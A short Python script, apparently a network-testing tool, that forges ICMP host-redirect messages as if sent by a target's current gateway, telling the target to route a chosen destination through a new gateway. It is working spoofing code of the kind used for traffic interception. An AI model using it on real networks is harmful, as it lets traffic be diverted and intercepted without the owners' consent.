#!/usr/bin/python3
"""Send ICMP redirects (RFC 792): "reach DESTINATION through me", as a gateway on the cable could."""
import argparse
import socket
import struct
import time

import frame

REDIRECT_HOST = (5, 1)


def main() -> None:
    options = argparse.ArgumentParser(description=__doc__)
    options.add_argument("--interface", required=True, help="the gateway's end of the cable")
    options.add_argument("--mac", required=True, help="who the frames are for")
    options.add_argument("--gateway", required=True, help="the gateway in use now, which the redirect claims to come from")
    options.add_argument("--target", required=True, help="address of the machine to be redirected")
    options.add_argument("--destination", required=True, help="destination to be redirected")
    options.add_argument("--towards", required=True, help="the new gateway, on the same network")
    options.add_argument("--count", type=int, default=3)
    asked = options.parse_args()

    # The packet that "caused" it: an echo reply, the one kind for which the kernel asks for no socket that sent it.
    cause = frame.ipv4(asked.target, asked.destination, 1, struct.pack("!BBHHH", 0, 0, frame.checksum(struct.pack("!BBHHH", 0, 0, 0, 1, 1)), 1, 1))
    body = socket.inet_aton(asked.towards) + cause
    message = struct.pack("!BBH", *REDIRECT_HOST, frame.checksum(struct.pack("!BBH", *REDIRECT_HOST, 0) + body)) + body
    link = frame.open_link(asked.interface)
    head = frame.mac(asked.mac) + frame.own_mac(link) + struct.pack("!H", frame.IPV4)
    for _ in range(asked.count):
        link.send(head + frame.ipv4(asked.gateway, asked.target, 1, message))
        time.sleep(0.2)  # the first one makes the kernel ask who the new gateway is
    frame.report(asked.count, 0)


main()
